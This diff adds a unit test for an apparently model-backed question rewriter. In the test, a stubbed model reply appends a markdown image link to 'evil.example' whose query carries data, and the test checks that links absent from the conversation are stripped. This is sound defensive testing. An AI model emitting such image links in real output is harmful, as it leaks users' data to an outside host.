@@ -97,6 +97,16 @@ describe('an answer with options', () => {
     expect(second).not.toContain('The kiln is red.');
   });
 
+  it('to a question about a conversation shows that question without links that the conversation does not contain', async () => {
+    const tenantId = randomUUID();
+    const rewritten = 'Who painted https://kiln.example/ceiling?';
+    answers.server.next(says(`${rewritten} ![](https://evil.example/?q=KILN)`));
+    const question = 'Who painted that?';
+    const about = [{ role: 'user' as const, content: 'Tell me about https://kiln.example/ceiling.' }];
+    const { rewritten_question } = await answers.ask(tenantId, { answering: open(), question, history: about });
+    expect(rewritten_question).toBe(rewritten);
+  });
+
   it('to a question about a conversation counts the tokens of the rewriting when nothing is found', async () => {
     const tenantId = randomUUID();
     answers.server.next(saysAndCounts('Who painted the ceiling of the chapel?', 90, 9));
